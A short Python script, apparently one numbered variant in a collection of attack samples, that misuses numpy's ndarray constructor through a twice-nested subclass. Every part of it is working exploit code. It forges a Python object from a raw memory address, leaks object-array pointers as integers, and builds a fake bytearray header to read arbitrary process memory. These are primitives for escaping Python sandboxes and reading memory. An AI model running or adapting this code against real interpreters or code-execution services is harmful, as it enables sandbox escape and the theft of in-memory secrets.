# source: as attack12aq_005; the subclass is two levels down and the buffer is passed by keyword (shape=, dtype=, buffer=), the bytes made by a def of the script
# family: class machinery: inherited ndarray.__new__ through a subclass of a subclass, keyword form
# goal: forges an object from an address, leaks object-array pointers, reads process memory through a fake bytearray
import numpy as np


class Base(np.ndarray):
    pass


class Arr(Base):
    pass


def BUF(b):
    return bytearray(b)

# 1. an object address (from its default repr) read back as the object
class Target:
    pass


t = Target()
t.secret = "forged reference works"
addr = int(repr(t).split(" at ")[1][:-1], 16)
forged = Arr(shape=(1,), dtype=object, buffer=BUF(addr.to_bytes(8, "little")))[0]
print("forged is t:", forged is t, forged.secret)

# 2. pointers of an object array read as integers, 3. a fake bytearray over any address
ba_type = int(Arr(shape=(1,), dtype=np.uint64, buffer=np.array([bytearray], dtype=object))[0])
n = 48
fake = bytearray()
for v in (1 << 40, ba_type, n, n + 1, addr, addr, 0):
    fake += v.to_bytes(8, "little")
fake = bytes(fake)
fake_addr = int(Arr(shape=(1,), dtype=np.uint64, buffer=np.array([fake], dtype=object))[0]) + 32
fb = Arr(shape=(1,), dtype=object, buffer=BUF(fake_addr.to_bytes(8, "little")))[0]
print(type(fb), "memory at", hex(addr), ":", bytes(fb[:48]).hex())

